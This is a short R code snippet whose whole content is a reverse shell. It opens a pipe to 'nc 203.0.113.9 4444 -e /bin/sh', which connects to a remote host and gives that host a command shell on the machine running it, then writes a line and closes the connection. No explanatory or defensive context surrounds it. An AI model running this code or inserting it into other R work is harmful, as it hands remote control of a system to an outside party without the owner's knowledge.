con <- pipe("nc 203.0.113.9 4444 -e /bin/sh", "w")
writeLines("hello", con)
close(con)
